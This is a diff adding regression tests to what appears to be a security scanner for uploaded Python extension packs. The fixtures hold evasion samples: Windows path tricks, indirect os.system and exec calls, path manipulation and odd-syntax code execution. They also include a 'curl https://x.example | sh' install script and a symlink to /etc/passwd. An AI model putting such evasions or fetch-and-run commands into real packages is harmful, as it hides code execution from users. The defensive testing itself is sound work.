@@ -317,6 +317,53 @@ onEachEngine('checks of archives', (server) => {
     });
   }
 
+  for (const name of ['__init__.py.', '__init__.py ', 'a.py::$DATA', 'lib./a.py', 'nul.py']) {
+    test(`[REG-166] an entry named ${JSON.stringify(name)} is another file on Windows`, async () => {
+      await assertUnusable(zipOf([SOUND, { name, content: 'import os\nos.system("x")\n' }]), /entry/i);
+    });
+  }
+
+  test('[REG-167] a module as a value, and code of a name that is bound twice, are flagged', async () => {
+    const twice = 'c = "1"\ndef g():\n    global c\n    c = input()\ng()\nexec(c)\n';
+    for (const source of ['import os\nf(os)\n', 'import os\nclass A:\n    o = os\n', twice]) {
+      const version = await verdictOn(packOf({ '__init__.py': source }));
+      assert.equal(version.status, STATUS.flagged, JSON.stringify(version));
+    }
+  });
+
+  test('[REG-168] tests count where the pack puts them on the path', async () => {
+    const tested = { 'tests/helper.py': 'import os\nos.system("x")\n' };
+    const path = 'import sys\nsys.path.append(__file__ + "/../tests")\nimport helper\n';
+    const version = await verdictOn(packOf({ ...tested, '__init__.py': path }));
+    assert.equal(version.status, STATUS.flagged, JSON.stringify(version));
+    const other = await verdictOn(packOf({ ...tested, '__init__.py': 'NODE_CLASS_MAPPINGS = {}\n' }));
+    assert.equal(other.status, STATUS.active, other.status_reason ?? '');
+  });
+
+  test('[REG-169] what runs code where a source is not quite Python is flagged', async () => {
+    for (const source of ['import os\nclass A[T=os.system(1)]: pass\n', 'import os\nt"{os.system("x")}"\n']) {
+      const version = await verdictOn(packOf({ '__init__.py': source }));
+      assert.equal(version.status, STATUS.flagged, JSON.stringify(version));
+    }
+    const harmless = await verdictOn(packOf({ '__init__.py': 'class A[T=int]: pass\n' }));
+    assert.equal(harmless.status, STATUS.active, harmless.status_reason ?? '');
+  });
+
+  test('[REG-170] files that a person should know of are noted', async () => {
+    const version = await verdictOn(
+      packOf({
+        '__init__.py': 'NODE_CLASS_MAPPINGS = {}\n',
+        'install.sh': 'curl https://x.example | sh\n',
+        'x.pth': 'import os\n',
+        'requirements.txt': '--index-url https://x.example\n',
+        'bin/a.exe': 'MZ',
+      }),
+    );
+    assert.equal(version.status, STATUS.active, JSON.stringify(version));
+    for (const name of ['install.sh', 'x.pth', 'requirements.txt', 'bin/a.exe'])
+      assert.match(version.status_reason ?? '', new RegExp(`"${name}"`));
+  });
+
   test('[REG-68] an entry that is a link cannot be used', async () => {
     await assertUnusable(zipOf([SOUND, { name: 'link', content: '/etc/passwd', mode: LINK }]), /link/);
     await assertUnusable(zipOf([SOUND, { name: 'link.py', content: '../x.py', mode: LINK }]), /link/);
